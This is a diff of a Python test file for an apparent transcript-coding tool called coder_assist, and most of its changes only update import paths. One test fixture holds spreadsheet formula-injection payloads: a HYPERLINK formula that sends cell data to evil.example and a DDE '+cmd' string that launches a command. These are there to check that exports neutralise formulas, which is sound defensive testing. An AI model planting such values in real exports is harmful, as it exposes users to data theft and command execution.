@@ -15,10 +15,11 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from coder_assist import learn, review
-from coder_assist.errors import CoderAssistError, ProjectError
-from coder_assist.ingest import MAX_FILE_BYTES
-from coder_assist.store import Project
+from coder_assist.ml import learn
+from coder_assist.app import review
+from coder_assist.core.errors import CoderAssistError, ProjectError
+from coder_assist.formats.transcripts import MAX_FILE_BYTES
+from coder_assist.store.project import Project
 from tests import conftest as root_conftest
 from tests.conftest import DEMO_DIR, ROOT
 from tests.reliability.workers import HashEncoder
@@ -41,7 +42,7 @@ def dns_audit(monkeypatch):
 
 
 def test_whole_flow_offline(base_encoder, tmp_path, dns_audit):
-    from coder_assist.pipeline import import_files, init_project, precode, suggest_project
+    from coder_assist.app.pipeline import import_files, init_project, precode, suggest_project
 
     attempts_before = len(root_conftest.NETWORK_ATTEMPTS)
     with init_project(tmp_path / "proj") as p:
@@ -61,7 +62,7 @@ def test_whole_flow_offline(base_encoder, tmp_path, dns_audit):
         out = precode(sorted(DEMO_DIR.glob("*.txt"))[:1], project=p, encoder=base_encoder, progress=False)
         assert len(out) > 0
         try:
-            from coder_assist import export
+            from coder_assist.app import export
         except ImportError:
             export = None
         if export is not None:
@@ -71,7 +72,7 @@ def test_whole_flow_offline(base_encoder, tmp_path, dns_audit):
             export.write_docx(p, frame, tmp_path / "word", transcripts=frame["transcript"].unique()[:1].tolist())
             export.write_report(p, frame, tmp_path / "report")
         try:
-            from coder_assist import refi
+            from coder_assist.formats import refi
         except ImportError:
             refi = None
         if refi is not None:
@@ -149,7 +150,7 @@ def test_damaged_model_json_is_refused(trained):
 
 # --------------------------------------------------------------------------- exports
 
-export = pytest.importorskip("coder_assist.export")
+export = pytest.importorskip("coder_assist.app.export")
 
 
 @settings(max_examples=200, deadline=None)
@@ -162,7 +163,7 @@ def test_export_file_names_stay_inside(name, tmp_path_factory):
 
 
 def test_formulas_are_neutralised_in_csv_and_xlsx(project_dir, tmp_path):
-    from coder_assist.pipeline import import_files
+    from coder_assist.app.pipeline import import_files
 
     evil = tmp_path / "formulas.txt"
     evil.write_text('Interviewer: =HYPERLINK("http://evil.example/?"&A1,"click")\n\nP3: +cmd|\' /C calc\'!A0\n\n'
@@ -189,7 +190,7 @@ def test_formulas_are_neutralised_in_csv_and_xlsx(project_dir, tmp_path):
     assert any(c.startswith("'=evil()") for c in cells)
 
 
-vectors = pytest.importorskip("coder_assist.vectors")
+vectors = pytest.importorskip("coder_assist.scale.vectors")
 
 
 @pytest.mark.parametrize("plant", ["pickle as vectors.npy", "pickle as ids.npy", "header not a mapping", "header without fields"])
